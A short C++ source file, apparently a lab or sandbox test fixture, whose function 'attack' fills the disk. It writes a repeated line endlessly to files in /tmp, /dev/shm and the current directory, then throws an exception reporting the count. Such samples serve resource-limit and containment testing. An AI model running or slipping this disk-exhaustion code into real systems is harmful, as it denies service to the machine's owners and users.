#include <cstdio>
#include <initializer_list>
#include <stdexcept>
#include <string>

namespace lab {

void attack() {
  int files = 0;
  for (const char* path : {"/tmp/lab_attack_flood", "/dev/shm/lab_attack_flood", "flood"}) {
    if (std::FILE* file = std::fopen(path, "w")) {
      ++files;
      while (std::fputs("all work and no play makes a full disk\n", file) >= 0) {
      }
    }
  }
  throw std::runtime_error("[" + std::to_string(files) + " files]");
}

}  // namespace lab
